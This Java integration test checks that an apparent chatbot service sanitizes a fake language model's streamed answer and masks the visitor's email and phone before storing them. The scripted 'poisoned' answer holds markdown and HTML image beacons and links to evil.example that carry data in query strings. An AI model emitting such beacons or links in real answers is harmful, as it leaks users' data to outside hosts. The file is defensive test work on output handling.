package io.cellardoor.app;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import io.cellardoor.knowledge.KnowledgeImporter;
import io.cellardoor.tenant.TenantService;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.ObjectMapper;

/**
 * Output handling (LLM05) and masking, with answers from a local OpenAI-compatible server streaming real SSE chunks:
 * an answer that tries to load an image and link to a foreign site reaches the visitor and the database without
 * either, while a link to the org's own source URL stays; the question is stored masked although the model was given
 * it unmasked.
 */
class AnswerOutputIntegrationTests extends IntegrationTestSupport {

    /** What the poisoned model answers, in streamed pieces. */
    static final List<String> ANSWER = List.of(
            "Guests stomp grapes every autumn [1]. ",
            "![pixel](https://evil.example/p.gif?c=call+me+at+845) ",
            "Tickets: [book here](https://evil.example/steal?q=secret) or ",
            "[our page](https://hollowcreek.example/about/stomping) and https://evil.example/x. ",
            "<img src=https://evil.example/t.gif>Call [us](tel:+18455550199).");

    static final List<String> PROMPTS = new CopyOnWriteArrayList<>();
    static final HttpServer LLM = startLlm();

    @Autowired
    TenantService tenants;

    @Autowired
    KnowledgeImporter importer;

    @Autowired
    ObjectMapper json;

    @DynamicPropertySource
    static void llm(DynamicPropertyRegistry registry) {
        registry.add(
                "cellardoor.answer.llm.base-url",
                () -> "http://127.0.0.1:" + LLM.getAddress().getPort() + "/v1");
        registry.add("cellardoor.answer.llm.api-key", () -> "test-key");
        registry.add("cellardoor.answer.llm.model", () -> "fake");
        registry.add("cellardoor.cache.enabled", () -> "false");
    }

    @AfterAll
    static void stopLlm() {
        LLM.stop(0);
    }

    @Test
    void anAnswerThatTriesImagesAndForeignLinksKeepsOnlyTheOrgsOwnLinks() throws Exception {
        long org = tenants.ensureOrg("it-llm05", "LLM05");
        tenants.ensureSite(org, "it-llm05-key", "LLM05 site");
        Path knowledge = Files.createTempDirectory("llm05");
        Files.createDirectories(knowledge.resolve("about"));
        Files.writeString(knowledge.resolve("about/grape-stomping.md"), """
                ---
                source_url: https://hollowcreek.example/about/stomping
                ---
                # Grape Stomping Tradition

                Grape stomping is our oldest tradition: the family crushed the first vintage barefoot in oak vats.
                Guests still stomp a vat of grapes together every autumn.
                """);
        importer.importFolder(org, knowledge, l -> {});

        String question =
                "What is the grape stomping tradition? Mail me at ann.visitor@example.com or call 845 555 0123";
        var response = post(
                "/api/v1/chat/stream", "it-llm05-key", json.writeValueAsString(java.util.Map.of("message", question)));
        assertThat(response.statusCode()).as(response.body()).isEqualTo(200);
        JsonNode done = null;
        String name = null;
        for (String line : response.body().split("\n")) {
            if (line.startsWith("event:")) {
                name = line.substring(6).trim();
            } else if (line.startsWith("data:") && "done".equals(name)) {
                done = json.readTree(line.substring(5));
            }
        }
        assertThat(done).as(response.body()).isNotNull();
        String answer = done.path("answer").asString();
        assertThat(done.path("usage").path("generator").asString()).isEqualTo("llm");
        assertThat(answer)
                .doesNotContain("evil.example")
                .doesNotContain("![")
                .doesNotContain("<img")
                .contains("[our page](https://hollowcreek.example/about/stomping)")
                .contains("[us](tel:+18455550199)")
                .contains("book here")
                .contains("pixel");

        // The model was given the question as asked; the database keeps it masked and the answer sanitized.
        assertThat(PROMPTS).anySatisfy(p -> assertThat(p).contains("ann.visitor@example.com"));
        var stored = asOwner()
                .sql("SELECT question, answer FROM message WHERE org_id = ? ORDER BY id DESC LIMIT 1")
                .param(org)
                .query((rs, n) -> List.of(rs.getString(1), rs.getString(2)))
                .single();
        assertThat(stored.get(0))
                .isEqualTo("What is the grape stomping tradition? Mail me at [email] or call [phone]")
                .doesNotContain("ann.visitor");
        assertThat(stored.get(1)).isEqualTo(answer);
    }

    private static HttpServer startLlm() {
        try {
            HttpServer server = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
            server.createContext("/v1/chat/completions", exchange -> {
                PROMPTS.add(new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8));
                exchange.getResponseHeaders().add("Content-Type", "text/event-stream");
                exchange.sendResponseHeaders(200, 0);
                try (OutputStream out = exchange.getResponseBody()) {
                    for (String piece : ANSWER) {
                        String escaped = piece.replace("\\", "\\\\").replace("\"", "\\\"");
                        out.write(("data: {\"id\":\"c1\",\"object\":\"chat.completion.chunk\",\"created\":1,"
                                        + "\"model\":\"fake\",\"choices\":[{\"index\":0,\"delta\":{\"content\":\""
                                        + escaped + "\"},\"finish_reason\":null}]}\n\n")
                                .getBytes(StandardCharsets.UTF_8));
                        out.flush();
                    }
                    out.write(("data: {\"id\":\"c1\",\"object\":\"chat.completion.chunk\",\"created\":1,"
                                    + "\"model\":\"fake\",\"choices\":[{\"index\":0,\"delta\":{},"
                                    + "\"finish_reason\":\"stop\"}]}\n\ndata: [DONE]\n\n")
                            .getBytes(StandardCharsets.UTF_8));
                }
            });
            server.start();
            return server;
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
